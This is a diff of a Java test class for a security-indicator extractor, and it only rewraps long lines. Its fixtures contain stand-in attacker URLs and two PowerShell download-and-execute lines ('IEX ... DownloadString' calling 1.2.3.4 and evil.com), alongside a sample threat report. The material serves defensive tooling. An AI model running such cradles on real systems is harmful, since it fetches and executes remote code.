@@ -30,7 +30,8 @@ class ExtractorTest {
                 row("URL", "was https://evil.com/gate.php visited", "URL https://evil.com/gate.php"),
                 row("defanged URL", "hxxp://evil[.]com/gate.php",
                         "URL http://evil.com/gate.php <- hxxp://evil[.]com/gate.php"),
-                row("defanged scheme colon", "hxxps[:]//cdn.bad.xyz/a", "URL https://cdn.bad.xyz/a <- hxxps[:]//cdn.bad.xyz/a"),
+                row("defanged scheme colon", "hxxps[:]//cdn.bad.xyz/a",
+                        "URL https://cdn.bad.xyz/a <- hxxps[:]//cdn.bad.xyz/a"),
                 row("ftp URL", "ftp://files.example.net/drop.bin", "URL ftp://files.example.net/drop.bin"),
                 row("domain", "who resolved Evil-Updates.com", "DOMAIN evil-updates.com <- Evil-Updates.com"),
                 row("domain defanged with (.)", "evil(.)com", "DOMAIN evil.com <- evil(.)com"),
@@ -159,12 +160,14 @@ class ExtractorTest {
 
         assertThat(extraction.mentions()).extracting(Fixtures::describe).containsExactlyElementsOf(expected);
         assertThat(extraction.mentions()).allSatisfy(mention ->
-                assertThat(extraction.normalized().substring(mention.start(), mention.end())).isEqualTo(mention.text()));
+                assertThat(extraction.normalized().substring(mention.start(), mention.end()))
+                        .isEqualTo(mention.text()));
     }
 
     @Test
     void mentionsAreOrderedAndDoNotOverlap() {
-        Extraction extraction = extract("top 3 procs on ws5 and WORKSTATION6 talking to 1.2.3.4 or evil.com, incident 4");
+        Extraction extraction = extract(
+                "top 3 procs on ws5 and WORKSTATION6 talking to 1.2.3.4 or evil.com, incident 4");
 
         List<Mention> mentions = extraction.mentions();
         for (int i = 1; i < mentions.size(); i++) {
@@ -283,7 +286,8 @@ class ExtractorTest {
 
     @Test
     void readsAFencedScript() {
-        Extraction extraction = extract("is this bad?\n```powershell\n$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://1.2.3.4/a')\n```");
+        Extraction extraction = extract("is this bad?\n```powershell\n$c = New-Object Net.WebClient\n"
+                + "IEX $c.DownloadString('http://1.2.3.4/a')\n```");
 
         assertThat(extraction.mentions()).singleElement().satisfies(mention -> {
             assertThat(mention.type()).isEqualTo(EntityType.SCRIPT);
@@ -294,7 +298,8 @@ class ExtractorTest {
 
     @Test
     void readsALongPowerShellLine() {
-        String line = "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('UA','x');IEX $wc.DownloadString('http://evil.com/p')";
+        String line = "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('UA','x');"
+                + "IEX $wc.DownloadString('http://evil.com/p')";
 
         assertThat(extract(line).mentions()).extracting(Mention::type).containsExactly(EntityType.SCRIPT);
     }
@@ -302,7 +307,8 @@ class ExtractorTest {
     @Test
     void readsAPastedArticleAsTextWithoutItsInnerEntities() {
         String article = "Last week, APT29 targeted Microsoft Exchange Server installations through CVE-2024-21410. "
-                + "The actor sent phishing mail from bob@evil.com and staged payloads on hxxp://cdn[.]evil-updates[.]com/p. "
+                + "The actor sent phishing mail from bob@evil.com and staged payloads on "
+                + "hxxp://cdn[.]evil-updates[.]com/p. "
                 + "Victims saw credential dumping via lsass memory on domain controllers. "
                 + "The campaign used 198.51.100.7 for command and control, and moved laterally with pass the hash. "
                 + "Defenders should hunt for encoded PowerShell launched by Office applications.";
